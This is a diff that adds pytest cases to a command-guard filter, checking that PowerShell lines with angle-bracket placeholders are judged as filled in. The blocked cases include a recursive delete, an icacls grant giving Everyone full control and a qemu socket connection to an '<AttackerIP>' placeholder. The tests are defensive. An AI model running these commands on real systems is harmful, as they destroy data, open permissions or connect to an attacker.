@@ -94,3 +94,28 @@ def test_each_reading_starts_from_the_line_start() -> None:
     # line wrote", which would be the first reading's knowledge leaking into the second
     decision = guard_decision("posix", "docker exec -it <container> sh")
     assert "writes" not in decision.reason, decision
+
+
+POWERSHELL_FILLED_IN = [
+    # PowerShell reserves `<`: it refuses such a line whole, so it is judged as it runs once completed
+    ("icacls <file> /grant Everyone:F", "dynamic.arguments"),
+    ("Remove-Item <path> -Recurse", "destructive.recursive-delete"),
+    ("qemu-system-i386.exe -netdev socket,id=s,connect=<AttackerIP>:<Port>", "dynamic"),
+]
+POWERSHELL_HARMLESS = [
+    "git tag -a <tagname>",
+    "git checkout -b <branch name>",
+    'Write-Host "<b>bold</b>"',  # quoted: text
+    "Select-String -Pattern '<tag>' x.html",
+    "<# a block comment #> Get-Date",
+]
+
+
+@pytest.mark.parametrize(("command", "expected"), POWERSHELL_FILLED_IN)
+def test_powershell_placeholders_are_values_to_come(command: str, expected: str) -> None:
+    decision = guard_decision("powershell", command)
+    assert not decision.allowed and (decision.rule_id or "").startswith(expected), decision
+
+
+def test_powershell_lines_with_harmless_placeholders_or_quoted_angles_stay_allowed() -> None:
+    every_case([("powershell", c) for c in POWERSHELL_HARMLESS], guard_allows)
